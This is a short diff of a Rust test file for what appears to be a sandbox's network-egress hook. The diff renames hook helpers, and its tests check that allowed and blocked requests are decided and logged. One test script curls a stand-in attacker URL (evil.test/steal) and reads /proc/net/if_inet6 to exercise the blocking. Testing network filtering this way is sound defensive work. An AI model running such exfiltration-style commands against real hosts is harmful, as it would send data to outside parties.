@@ -8,7 +8,7 @@ use super::hook;
 
 #[tokio::test(flavor = "multi_thread")]
 async fn allowed_and_blocked_requests_are_decided_and_logged() {
-    let _hook = hook::stays();
+    let _hook = hook::keep();
     let fixture = Fixture::new().await;
     let script = "for url in https://open.test/hello https://evil.test/steal; do curl -sS --max-time 20 -w '\\n%{http_code}\\n' $url; done; \
                   cat /proc/net/if_inet6; curl --max-time 5 -sS http://203.0.113.1/ 2>/dev/null || echo no way";
@@ -31,7 +31,7 @@ async fn allowed_and_blocked_requests_are_decided_and_logged() {
 #[tokio::test(flavor = "multi_thread")]
 async fn network_on_an_engine_without_the_hook_is_refused() {
     let fixture = Fixture::new().await;
-    let _gone = hook::Gone::now();
+    let _removed = hook::Removed::new();
     // A private network needs no hook.
     let alone = fixture.run_spec(spec(&fixture, "echo ran")).await;
     assert_eq!(alone.stdout, "ran\n");
